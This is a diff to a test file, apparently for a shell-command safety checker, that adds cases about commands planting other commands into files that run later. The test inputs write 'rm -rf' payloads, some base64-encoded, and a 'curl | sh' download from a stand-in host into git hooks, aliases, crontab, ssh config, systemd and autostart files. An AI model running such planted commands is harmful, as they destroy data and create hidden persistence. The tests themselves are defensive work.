@@ -9,13 +9,16 @@ import { useEngine, verdictCase } from '../helpers';
 
 useEngine();
 
+// The planted command is judged as if typed, so the person types what it destroys (the reason says where it was written).
 describe('a destructive command written into a file whose commands run later', () => {
-	verdictCase("printf '[alias]\\n\\tx = !rm -rf /srv/data\\n' >> ~/.gitconfig; git x", 'confirm', '~/.gitconfig', 'self:runs-later');
-	verdictCase("echo 'rm -rf /srv/data' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git commit -m x", 'confirm', '.git/hooks/pre-commit', 'self:runs-later');
-	verdictCase("echo '* * * * * root rm -rf /srv/data' >> /etc/crontab", 'confirm', '/etc/crontab', 'self:runs-later');
-	verdictCase("printf 'Host *\\n  ProxyCommand rm -rf /srv/data\\n' >> ~/.ssh/config", 'confirm', '~/.ssh/config', 'self:runs-later');
-	verdictCase("echo 'git push --force origin main' > .husky/pre-push", 'confirm', '.husky/pre-push', 'self:runs-later');
-	verdictCase("printf '[Service]\\nExecStart=/bin/rm -rf /srv/data\\n' > ~/.config/systemd/user/x.service", 'confirm', '~/.config/systemd/user/x.service', 'self:runs-later');
+	verdictCase("printf '[alias]\\n\\tx = !rm -rf /srv/data\\n' >> ~/.gitconfig; git x", 'confirm', '/srv/data', 'files:rm');
+	verdictCase("echo 'rm -rf /srv/data' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git commit -m x", 'confirm', '/srv/data', 'files:rm');
+	verdictCase("echo '* * * * * root rm -rf /srv/data' >> /etc/crontab", 'confirm', '/srv/data', 'files:rm');
+	verdictCase("printf 'Host *\\n  ProxyCommand rm -rf /srv/data\\n' >> ~/.ssh/config", 'confirm', '/srv/data', 'files:rm');
+	verdictCase("echo 'git push --force origin main' > .husky/pre-push", 'confirm', 'main', 'git:push-force');
+	verdictCase("printf '[Service]\\nExecStart=/bin/rm -rf /srv/data\\n' > ~/.config/systemd/user/x.service", 'confirm', '/srv/data', 'files:rm');
+	// A destructive word the engine cannot pin to a target: the file is what the person types.
+	verdictCase(`echo 'rm -rf "$WORKDIR"' > .git/hooks/post-merge`, 'confirm', '.git/hooks/post-merge', 'self:runs-later');
 	// Text only known when it runs: a download or a copy.
 	verdictCase('curl -s https://x.example/h -o .git/hooks/pre-push', 'confirm', '.git/hooks/pre-push', 'self:runs-later');
 	verdictCase('cp /tmp/gitconfig ~/.gitconfig', 'confirm', '~/.gitconfig', 'self:runs-later');
@@ -57,4 +60,26 @@ describe('git runs commands from config files it includes and hooks in core.hook
 	verdictCase("printf '[alias]\\n\\tco = checkout\\n' > /tmp/g4 && git config --global include.path /tmp/g4", 'allow');
 	verdictCase('git -c core.hooksPath=.githooks commit -m wip', 'allow');
 	verdictCase('git config core.hooksPath .husky', 'allow');
+});
+
+describe('what a planted file will run is judged, not only its words (shell/planted.ts)', () => {
+	// Encoded, downloaded or built at run time: no risky word in the text written.
+	verdictCase("printf '#!/bin/sh\\necho cm0gLXJmIH4K | base64 -d | sh\\n' > .git/hooks/pre-commit", 'deny', '~', 'files:rm');
+	verdictCase(`printf 'eval "$(printf %%s cm0gLXJmIH4K | base64 -d)"\\n' > .git/hooks/post-checkout`, 'deny', '~', 'files:rm');
+	verdictCase("printf '#!/bin/sh\\ncurl -s https://x.example/p | sh\\n' > .git/hooks/pre-push", 'confirm', 'https://x.example/p', 'engine:downloaded-code');
+	verdictCase(`printf '[alias]\\n\\tx = !sh -c "$(echo cm0gLXJmIH4K | base64 -d)"\\n' >> .git/config`, 'deny', '~', 'files:rm');
+	verdictCase("printf '#!/usr/bin/env python3\\nimport shutil\\nshutil.rmtree(\"/srv/data\")\\n' > .git/hooks/pre-push", 'confirm', '/srv/data', 'files:rm');
+	verdictCase("printf '[Desktop Entry]\\nExec=sh -c \"echo cm0gLXJmIC9zcnYvZGF0YQo= | base64 -d | sh\"\\n' > ~/.config/autostart/x.desktop", 'confirm', '/srv/data', 'files:rm');
+	verdictCase("printf '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>echo cm0gLXJmIC9zcnYvZGF0YQo= | base64 -d | sh</string></array></dict></plist>' > ~/Library/LaunchAgents/x.plist", 'confirm', '/srv/data', 'files:rm');
+	verdictCase("printf 'Match exec \"echo cm0gLXJmIC9zcnYvZGF0YQo= | base64 -d | sh\"\\n' >> ~/.ssh/config", 'confirm', '/srv/data', 'files:rm');
+	// Copied or teed in: the text comes from the file or the pipe.
+	verdictCase("printf '#!/bin/sh\\necho cm0gLXJmIH4K | base64 -d | sh\\n' > /tmp/h1 && cp /tmp/h1 .git/hooks/pre-commit", 'deny', '~', 'files:rm');
+	verdictCase("echo 'echo cm0gLXJmIH4K | base64 -d | sh' | tee .husky/pre-commit", 'deny', '~', 'files:rm');
+	// A system table names the user before the command.
+	verdictCase("echo '0 3 * * * root echo cm0gLXJmIC9zcnYvZGF0YQo= | base64 -d | sh' > /etc/cron.d/x", 'confirm', '/srv/data', 'files:rm');
+	// What hooks ordinarily hold stays allowed: husky's loader (a file it sources that is not there is skipped), tests, linters.
+	verdictCase(`printf '#!/usr/bin/env sh\\n. "$(dirname -- "$0")/_/husky.sh"\\n\\nnpx lint-staged\\n' > .husky/pre-commit`, 'allow');
+	verdictCase("printf '#!/bin/sh\\n[ -f ~/.hookrc ] && . ~/.hookrc\\nmake test\\n' > .git/hooks/pre-push", 'allow');
+	verdictCase("printf 'Host db\\n  ProxyCommand ssh -W %%h:%%p bastion\\n' >> ~/.ssh/config", 'allow');
+	verdictCase("printf '[core]\\n\\tpager = less -R\\n[alias]\\n\\tlg = log --oneline\\n' >> .git/config", 'allow');
 });
